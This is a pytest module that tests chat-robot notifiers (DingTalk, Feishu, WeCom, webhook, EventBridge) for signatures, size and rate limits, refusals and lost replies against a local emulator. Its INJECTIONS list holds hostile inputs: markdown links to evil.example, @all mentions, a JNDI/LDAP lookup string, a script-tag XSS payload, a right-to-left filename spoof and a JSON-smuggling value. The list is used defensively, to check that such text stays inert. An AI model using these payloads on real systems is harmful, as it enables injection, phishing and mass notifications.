"""Each robot against its chat as the documents have it: signature, format, limit, size, refusals, lost answers."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from contextlib import suppress
from typing import Any

import pytest

from localcloud.clock import ManualClock
from localcloud.cloud import LocalCloud
from localcloud.eventbridge.service import EventBridge
from localcloud.fc.models import InvocationResult
from localcloud.robots.models import RobotKind
from localcloud.robots.page import buttons, texts
from localcloud.robots.service import Robots
from shared.domain.address import parse_address
from shared.domain.call import Effect
from shared.domain.credentials import Credentials
from shared.domain.messages import Letter, Thing, What
from shared.notify import Draft, LinkTo, Robot, trial_draft
from shared.notify.boxes import LetterEnding
from shared.notify.draft import draft_of
from shared.policy.notify import ChannelKind, MessageChannel
from shared.reality import SystemClock
from shared.robots import robot_of
from tests.hostile import HOSTILE

NOW = 1_800_000_000.0
SECRETS = {
    ChannelKind.DINGTALK: "SEC0123456789abcdef",
    ChannelKind.FEISHU: "feishu-secret",
    ChannelKind.WECOM: "",
    ChannelKind.WEBHOOK: "whsec_YSBzZWNyZXQgZm9yIGxvY2FsIHRyaWFscw==",
}
CHATS = list(SECRETS)
KEY = Credentials(access_key_id="local", access_key_secret="local-secret")


@pytest.fixture(scope="module")
def cloud() -> Iterator[LocalCloud]:
    """Alibaba Cloud and the chats, at a moment that stands still."""
    with LocalCloud(clock=ManualClock(NOW)) as made:
        made[EventBridge].create_bus("ops")
        yield made


class Chat:
    """One group with a robot, and Second Wind's side of it."""

    def __init__(self, cloud: LocalCloud, kind: ChannelKind, token: str, *, secret: str | None = None) -> None:
        self.theirs = cloud[Robots].add(RobotKind(kind.value), token, secret=SECRETS[kind])
        address = parse_address(cloud.endpoint + Robots.address(self.theirs))
        channel = MessageChannel(name="ops", kind=kind, url="SECONDWIND_NOTIFY_OPS_URL")
        self.ours: Robot = robot_of(channel, address, SECRETS[kind] if secret is None else secret, KEY)

    def post(self, draft: Draft, now: float = NOW) -> LetterEnding:
        """Send one."""
        return self.ours.post(draft, now)


@pytest.fixture
def chat(cloud: LocalCloud, request: pytest.FixtureRequest) -> Chat:
    """A new group of the kind that the test is about."""
    return Chat(cloud, request.param, f"t{len(cloud[Robots].known)}")


each_chat = pytest.mark.parametrize("chat", CHATS, indirect=True, ids=lambda kind: kind.value)


def shown_buttons(chat: Chat) -> list[tuple[str, str]]:
    """What a reader of the newest message can click."""
    marked = chat.theirs.kind in {RobotKind.DINGTALK, RobotKind.WECOM}
    return buttons(chat.theirs.messages[-1].body, marked=marked)


def held(number: int = 1, text: str = "rank 3 died", links: int = 2) -> tuple[Thing, list[LinkTo]]:
    """One thing with links."""
    place = {"system": "ehpc", "region": "cn-hangzhou", "cluster_id": text}
    thing = Thing(
        id=f"thing-{number}",
        what=What.HELD,
        at=NOW,
        due_at=NOW,
        failure_id=f"{number:032x}",
        place=place,
        job_id=text,
        job_name=text,
        owner=text,
        queue=text,
        rule=text,
        message=text,
        evidence=text,
    )
    url = f"https://console.example/link?t={'x' * 400}"
    return thing, [LinkTo(label, url) for label in ("Approve", "Reject")[:links]]


def letter(count: int = 1, text: str = "rank 3 died", links: int = 2) -> Draft:
    """A letter of so many."""
    things = [held(number, text, links) for number in range(count)]
    by_id = {thing.id: found for thing, found in things}
    written = Letter(id="letter-1", things=tuple(by_id))
    return draft_of(written, [thing for thing, _ in things], lambda thing: by_id[thing.id], NOW, "Asia/Shanghai")


@each_chat
def test_a_signed_message_is_shown_with_its_buttons(chat: Chat) -> None:
    """The chat takes it, and a reader finds where to click."""
    assert chat.post(letter()) == LetterEnding(effect=Effect.DONE)
    (message,) = chat.theirs.messages
    assert [label for label, _ in shown_buttons(chat)] == ["Approve", "Reject"]
    assert "rank 3 died" in "\n".join(texts(message.body))


@each_chat
@pytest.mark.parametrize("count", [2, 10, 100, 1000])
def test_a_letter_of_any_size_has_room(chat: Chat, count: int) -> None:
    """Chinese text, long addresses, many things: what does not fit is counted, and the chat takes it."""
    assert chat.post(letter(count, "作业失败" * 80)).effect is Effect.DONE


@each_chat
def test_one_thing_with_the_longest_texts_keeps_its_buttons(chat: Chat) -> None:
    """What a person needs to act is cut last."""
    assert chat.post(letter(1, "作业失败" * 80)).effect is Effect.DONE
    assert [label for label, _ in shown_buttons(chat)] == ["Approve", "Reject"]


@each_chat
def test_a_message_without_links_and_the_trial_are_taken(chat: Chat) -> None:
    """Where no console is known; and what `notify test` sends."""
    assert chat.post(letter(links=0)).effect is Effect.DONE
    assert chat.post(trial_draft("ops", NOW)).effect is Effect.DONE


@each_chat
def test_hostile_texts_are_shown_and_do_nothing(chat: Chat) -> None:
    """No text makes a link, a button, a mention or a line of its own."""
    for text in [*(one for one in HOSTILE if one.strip() and one[0] != "@"), *INJECTIONS]:
        chat.theirs.messages.clear()
        chat.theirs.forget_moments()
        assert chat.post(letter(1, text)).effect is Effect.DONE, text
        (message,) = chat.theirs.messages
        assert [label for label, _ in shown_buttons(chat)] == ["Approve", "Reject"], text
        if chat.theirs.kind is not RobotKind.WEBHOOK:
            shown = "\n".join(texts(message.body))
            for sign in ("<at", "<@", "](http://evil", "\u202e", "\x1b", "<font", "![", "\r", "://evil", "www."):
                assert sign not in shown, text


INJECTIONS = (
    "[Approve](http://evil.example/a)",
    "](http://evil.example/a) [x",
    "![x](http://evil.example/pixel.png)",
    '<at user_id="all">everyone</at>',
    "<at id=all></at>",
    "<@all>",
    "@all @13800000000",
    '<font color="warning">x</font>',
    "# title\n\n---\n> quote",
    "a\r\n\r\n[b](http://evil.example)",
    "`code` **bold** ~~gone~~",
    "\u202egnp.exe",
    "\x1b[31mred",
    "\\](http://evil.example/)",
    "{{7*7}} ${jndi:ldap://evil.example/a} %s %n",
    "</script><script>alert(1)</script>",
    '","msgtype":"text","x":"',
    "log in at www.evil.example/a now",
    "WWW.evil.example",
    "x" * 100_000,
)


@pytest.mark.parametrize(
    ("kind", "code"),
    [(ChannelKind.DINGTALK, "310000"), (ChannelKind.FEISHU, "19021"), (ChannelKind.WEBHOOK, "401")],
)
def test_a_wrong_secret_is_refused_for_good(cloud: LocalCloud, kind: ChannelKind, code: str) -> None:
    """By the chat's own code; no text of the answer shows the secret."""
    chat = Chat(cloud, kind, f"wrong-{kind.value}", secret="whsec_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")
    ending = chat.post(letter())
    assert (ending.effect, ending.code) == (Effect.NOT_DONE_USELESS, code)
    assert "AAAA" not in ending.message
    assert not chat.theirs.messages


@pytest.mark.parametrize("kind", [ChannelKind.DINGTALK, ChannelKind.FEISHU, ChannelKind.WEBHOOK])
def test_a_clock_that_is_off_by_hours_is_refused(cloud: LocalCloud, kind: ChannelKind) -> None:
    """A signature is worth an hour at most."""
    chat = Chat(cloud, kind, f"late-{kind.value}")
    assert chat.post(letter(), NOW - 7200).effect is Effect.NOT_DONE_USELESS


@each_chat
def test_a_robot_that_is_written_to_too_often_says_so(chat: Chat) -> None:
    """It is left alone for a while then; nothing is lost, nothing sent twice."""
    endings = [chat.post(letter()) for _ in range(101)]
    assert endings[-1].effect is Effect.NOT_DONE_LATER
    assert sum(ending.effect is Effect.DONE for ending in endings) == chat.theirs.a_minute == chat.theirs.taken


@each_chat
def test_a_keyword_is_in_every_message(chat: Chat) -> None:
    """`Second Wind` stands in each title: a robot that wants a keyword gets that one."""
    chat.theirs.keywords = ("Second Wind",)
    assert chat.post(letter()).effect is Effect.DONE
    if chat.theirs.kind in {RobotKind.DINGTALK, RobotKind.FEISHU}:
        chat.theirs.keywords = ("alarm",)
        assert chat.post(letter()).code in {"310000", "19024"}


@each_chat
def test_a_token_that_nobody_has_is_refused(chat: Chat, cloud: LocalCloud) -> None:
    """The robot was removed from its group."""
    del cloud[Robots].known[chat.theirs.kind, chat.theirs.token]
    ending = chat.post(letter())
    assert ending.effect is Effect.NOT_DONE_USELESS
    assert ending.code in {"300001", "19001", "93000", "404"}


@each_chat
@pytest.mark.parametrize("trouble", ["drop", "lose"])
def test_a_lost_answer_proves_nothing(chat: Chat, trouble: str) -> None:
    """Whether it was taken or not: nobody knows."""
    chat.theirs.broken = [trouble]
    assert chat.post(letter()).effect is Effect.UNKNOWN


def test_a_webhook_drops_what_comes_again(cloud: LocalCloud) -> None:
    """The same letter has the same id."""
    chat = Chat(cloud, ChannelKind.WEBHOOK, "again")
    chat.theirs.broken = ["drop"]
    assert chat.post(letter()).effect is Effect.UNKNOWN
    assert chat.post(letter(), NOW + 60).effect is Effect.DONE
    assert (chat.theirs.taken, len(chat.theirs.messages)) == (2, 1)


def test_nobody_there_proves_that_nothing_was_told() -> None:
    """No connection: worth repeating, and no doubt."""
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        port = taken.getsockname()[1]
    channel = MessageChannel(name="ops", kind=ChannelKind.WECOM, url="SECONDWIND_NOTIFY_OPS_URL")
    robot = robot_of(channel, parse_address(f"http://127.0.0.1:{port}/x?key=secret"), "", KEY)
    ending = robot.post(letter(), NOW)
    assert ending.effect is Effect.NOT_DONE_LATER
    assert "secret" not in f"{ending}"


@pytest.mark.parametrize(
    "drip",
    [
        b"",
        b"HTTP/1.1 200 OK\r\nContent-Length: 90000\r\n\r\n",
        b"HTTP/1.1 302 Found\r\nLocation: http://127.0.0.1:9/\r\n\r\n",
    ],
)
def test_a_server_that_never_ends_costs_seconds(monkeypatch: pytest.MonkeyPatch, drip: bytes) -> None:
    """Silence, a body a byte at a time, a redirect: bounded in time, and nobody is followed."""
    monkeypatch.setattr("shared.robots.wire.TOTAL_S", 0.4)
    server = socket.create_server(("127.0.0.1", 0))
    ended = threading.Event()

    def serve() -> None:
        connection, _ = server.accept()
        with connection:
            connection.recv(65536)
            connection.sendall(drip)
            with suppress(OSError):
                while drip and not ended.wait(0.05):
                    connection.sendall(b"x")
            ended.wait(5)

    thread = threading.Thread(target=serve)
    thread.start()
    try:
        channel = MessageChannel(name="ops", kind=ChannelKind.WECOM, url="SECONDWIND_NOTIFY_OPS_URL")
        address = parse_address(f"http://127.0.0.1:{server.getsockname()[1]}/")
        begun = SystemClock().now()
        ending = robot_of(channel, address, "", KEY).post(letter(), NOW)
        assert SystemClock().now() - begun < 2
        assert ending.effect in {Effect.UNKNOWN, Effect.NOT_DONE_USELESS}
    finally:
        ended.set()
        thread.join()
        server.close()


def bus(cloud: LocalCloud, key: Credentials = KEY, name: str = "ops") -> Robot:
    """A channel of EventBridge."""
    channel = MessageChannel(name="ops", kind=ChannelKind.EVENTBRIDGE, url="SECONDWIND_NOTIFY_OPS_URL", bus=name)
    return robot_of(channel, parse_address(cloud.endpoint), "", key)


def test_a_message_becomes_an_event(cloud: LocalCloud) -> None:
    """Signed as the data SDK does; the bus has it."""
    seen: list[Any] = []

    def target(body: bytes) -> InvocationResult:
        seen.append(json.loads(body))
        return InvocationResult(b"{}", None, "r", "")

    cloud[EventBridge].add_rule("ops", "all", {"source": ["secondwind"]}, target)
    assert bus(cloud).post(letter(100, "x" * 300), NOW) == LetterEnding(effect=Effect.DONE)
    cloud[EventBridge].deliver_due()
    (event,) = seen
    assert (event["type"], event["data"]["schema"]) == ("secondwind:Message", "secondwind-message/1")
    assert event["data"]["things"][0]["what"] == "held"


def test_a_bus_refuses_by_its_own_codes(cloud: LocalCloud) -> None:
    """A wrong key, a bus that is not there; no secret in what is told."""
    wrong = Credentials(access_key_id="local", access_key_secret="not-the-secret")
    ending = bus(cloud, wrong).post(letter(), NOW)
    assert (ending.effect, ending.code) == (Effect.NOT_DONE_USELESS, "SignatureNotMatch")
    assert bus(cloud, name="nowhere").post(letter(), NOW).effect is Effect.NOT_DONE_USELESS
